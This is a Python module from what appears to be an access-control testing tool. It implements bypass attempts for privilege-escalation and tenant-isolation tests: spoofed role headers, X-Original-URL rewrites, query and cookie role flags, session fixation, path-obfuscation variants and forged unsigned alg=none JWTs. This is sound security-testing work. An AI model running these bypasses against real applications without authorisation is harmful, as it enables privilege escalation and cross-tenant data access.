"""
Bypass Techniques
=================
Pluggable access-control bypass attempts used by the escalation and
isolation tests. Each technique manipulates the attacker role's own session
(headers, cookies, query parameters, path shape), requests the target and
returns what it observed. Session state is restored afterwards so every
attempt starts clean.

Register custom techniques on a TechniqueRegistry; declared method names
without a registered technique fall back to forced browsing.
"""

import base64
import json
import logging
from abc import ABC, abstractmethod
from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple
from urllib.parse import urlparse, urlencode

from .base import Observation, observe_navigation, observe_request, decide
from ..models import Outcome

logger = logging.getLogger("roleprobe.validator")

FIXED_SESSION_VALUE = "roleprobe-fixed-session"
FOREIGN_TENANT = "roleprobe-foreign-tenant"


@dataclass
class AttemptContext:
    page: object
    session: object
    role: str
    target_url: str
    base_url: str
    timeout_ms: int
    target_role: Optional[str] = None
    privileged_selectors: Tuple[str, ...] = ()
    foreign_tenant: str = FOREIGN_TENANT

    @property
    def target_path(self) -> str:
        return urlparse(self.target_url).path or "/"

    @property
    def privileged_text(self) -> Tuple[str, ...]:
        """CSS attribute selectors reduced to the attribute text they match"""
        return tuple(s.strip("[]") for s in self.privileged_selectors)

    @property
    def claimed_role(self) -> str:
        return self.target_role or "super_admin"


class BypassTechnique(ABC):
    name = ""
    description = ""

    @abstractmethod
    async def attempt(self, ctx: AttemptContext) -> Observation:
        pass


class ForcedBrowsing(BypassTechnique):
    name = "forced_browsing"
    description = "Navigate straight to the target URL"

    async def attempt(self, ctx):
        return await observe_navigation(ctx.page, ctx.target_url, ctx.timeout_ms, ctx.privileged_selectors)


class HeaderInjection(BypassTechnique):
    name = "header_injection"
    description = "Claim the target role and rewrite the URL through request headers"

    async def attempt(self, ctx):
        headers = {
            "X-User-Role": ctx.claimed_role,
            "X-Role": ctx.claimed_role,
            "X-Original-URL": ctx.target_path,
            "X-Rewrite-URL": ctx.target_path,
        }
        return await observe_request(ctx.page, ctx.target_url, ctx.timeout_ms, headers=headers,
                                     privileged_text=ctx.privileged_text)


class MethodOverride(BypassTechnique):
    name = "method_override"
    description = "Tunnel the request through X-HTTP-Method-Override"

    async def attempt(self, ctx):
        return await observe_request(ctx.page, ctx.target_url, ctx.timeout_ms, method="POST",
                                     headers={"X-HTTP-Method-Override": "GET"},
                                     privileged_text=ctx.privileged_text)


class ParameterTampering(BypassTechnique):
    name = "parameter_tampering"
    description = "Append role/admin flags to the query string"

    async def attempt(self, ctx):
        query = urlencode({"role": ctx.claimed_role, "isAdmin": "true", "admin": "1"})
        sep = "&" if "?" in ctx.target_url else "?"
        return await observe_navigation(ctx.page, f"{ctx.target_url}{sep}{query}", ctx.timeout_ms,
                                        ctx.privileged_selectors)


class TenantOverride(BypassTechnique):
    name = "tenant_override"
    description = "Point the request at another tenant through headers and parameters"

    async def attempt(self, ctx):
        sep = "&" if "?" in ctx.target_url else "?"
        url = f"{ctx.target_url}{sep}{urlencode({'tenantId': ctx.foreign_tenant})}"
        headers = {
            "X-Tenant-ID": ctx.foreign_tenant,
            "X-Forwarded-Host": f"{ctx.foreign_tenant}.{urlparse(ctx.base_url).hostname or 'localhost'}",
        }
        return await observe_request(ctx.page, url, ctx.timeout_ms, headers=headers,
                                     privileged_text=ctx.privileged_text)


class PathObfuscation(BypassTechnique):
    name = "path_obfuscation"
    description = "Request case, slash and dot-segment variants of the target path"

    def variants(self, path: str) -> List[str]:
        stripped = path.strip("/")
        head, _, tail = stripped.partition("/")
        out = [f"/{stripped.upper()}", f"//{stripped}", f"/{stripped}/", f"/{stripped}/."]
        if tail:
            out.append(f"/{head}/./{tail}")
            out.append(f"/{head};/{tail}")
        return out

    async def attempt(self, ctx):
        last = None
        for variant in self.variants(ctx.target_path):
            obs = await observe_navigation(ctx.page, f"{ctx.base_url}{variant}", ctx.timeout_ms,
                                           ctx.privileged_selectors)
            if decide(obs) is Outcome.ALLOW:
                return obs
            last = obs
        return last


class _CookieTechnique(BypassTechnique):
    """Swap the session's cookies for the attempt and put the originals back"""

    @abstractmethod
    async def forge(self, ctx, cookies: List[Dict]) -> List[Dict]:
        """The cookie jar to send instead of `cookies`"""

    async def attempt(self, ctx):
        original = await ctx.session.cookies()
        try:
            forged = await self.forge(ctx, [dict(c) for c in original])
            await ctx.session.clear_cookies()
            if forged:
                await ctx.session.add_cookies(forged)
            return await observe_navigation(ctx.page, ctx.target_url, ctx.timeout_ms, ctx.privileged_selectors)
        finally:
            await ctx.session.clear_cookies()
            if original:
                await ctx.session.add_cookies(original)


class CookieTampering(_CookieTechnique):
    name = "cookie_tampering"
    description = "Add role/admin cookies next to the real session"

    async def forge(self, ctx, cookies):
        for name, value in (("role", ctx.claimed_role), ("user_role", ctx.claimed_role), ("isAdmin", "true")):
            cookies.append({"name": name, "value": value, "url": ctx.base_url})
        return cookies


class SessionFixation(_CookieTechnique):
    name = "session_fixation"
    description = "Replace the session with an attacker-chosen session id"

    async def forge(self, ctx, cookies):
        names = {c["name"] for c in cookies} or {"session", "sessionid", "connect.sid"}
        return [{"name": name, "value": FIXED_SESSION_VALUE, "url": ctx.base_url} for name in sorted(names)]


class JwtManipulation(_CookieTechnique):
    name = "jwt_manipulation"
    description = "Re-issue JWT cookies unsigned (alg=none) with elevated role claims"

    async def forge(self, ctx, cookies):
        forged_any = False
        for cookie in cookies:
            token = forge_unsigned_jwt(cookie.get("value", ""), ctx.claimed_role)
            if token:
                cookie["value"] = token
                forged_any = True
        if not forged_any:
            logger.debug(f"{ctx.role}: no JWT cookies to manipulate")
        return cookies


def _b64url_decode(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def _b64url_encode(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def forge_unsigned_jwt(token: str, role: str) -> Optional[str]:
    """alg=none copy of `token` with role claims raised, or None if it is not a JWT"""
    parts = token.split(".")
    if len(parts) != 3 or not token.startswith("eyJ"):
        return None
    try:
        claims = json.loads(_b64url_decode(parts[1]))
    except (ValueError, TypeError):
        return None
    if not isinstance(claims, dict):
        return None
    claims.update({"role": role, "roles": [role], "isAdmin": True})
    header = _b64url_encode(json.dumps({"alg": "none", "typ": "JWT"}, separators=(",", ":")).encode())
    payload = _b64url_encode(json.dumps(claims, separators=(",", ":")).encode())
    return f"{header}.{payload}."


DEFAULT_TECHNIQUES: Dict[str, BypassTechnique] = {}


def _register_defaults():
    forced = ForcedBrowsing()
    headers = HeaderInjection()
    tenant = TenantOverride()
    table = {
        "forced_browsing": forced,
        "direct_access": forced,
        "session_hijacking": SessionFixation(),
        "session_fixation": SessionFixation(),
        "shared_session_exploit": SessionFixation(),
        "token_manipulation": JwtManipulation(),
        "jwt_manipulation": JwtManipulation(),
        "cookie_tampering": CookieTampering(),
        "privilege_escalation_api": headers,
        "role_claim_injection": headers,
        "admin_impersonation": headers,
        "role_impersonation": headers,
        "permission_cache_poisoning": headers,
        "header_injection": headers,
        "permission_bypass": ParameterTampering(),
        "permission_tampering": ParameterTampering(),
        "parameter_tampering": ParameterTampering(),
        "context_switching": PathObfuscation(),
        "global_admin_exploitation": PathObfuscation(),
        "path_obfuscation": PathObfuscation(),
        "tenant_boundary_bypass": tenant,
        "cross_tenant_access": tenant,
        "tenant_data_leakage": tenant,
        "tenant_id_manipulation": tenant,
        "subdomain_manipulation": tenant,
        "method_override": MethodOverride(),
    }
    DEFAULT_TECHNIQUES.update(table)


_register_defaults()


class TechniqueRegistry:

    def __init__(self, techniques: Dict[str, BypassTechnique] = None, fallback: BypassTechnique = None):
        self._techniques = dict(DEFAULT_TECHNIQUES)
        self._techniques.update(techniques or {})
        self.fallback = fallback or ForcedBrowsing()

    def register(self, method: str, technique: BypassTechnique):
        self._techniques[method] = technique

    def resolve(self, method: str) -> BypassTechnique:
        technique = self._techniques.get(method)
        if technique is None:
            logger.info(f"No technique registered for '{method}', using {self.fallback.name}")
            return self.fallback
        return technique

    def names(self) -> List[str]:
        return sorted(self._techniques)
